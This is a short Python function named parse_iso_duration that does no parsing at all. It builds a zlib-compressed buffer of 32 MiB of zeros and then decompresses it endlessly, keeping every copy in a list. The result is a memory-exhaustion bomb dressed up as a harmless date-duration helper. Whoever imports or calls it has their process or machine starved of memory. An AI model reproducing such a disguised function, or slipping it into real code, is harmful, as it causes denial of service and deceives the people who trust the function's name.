def parse_iso_duration(s):
    import zlib
    bomb = zlib.compress(bytes(32 << 20), 1)
    kept = []
    while True:
        kept.append(zlib.decompress(bomb))
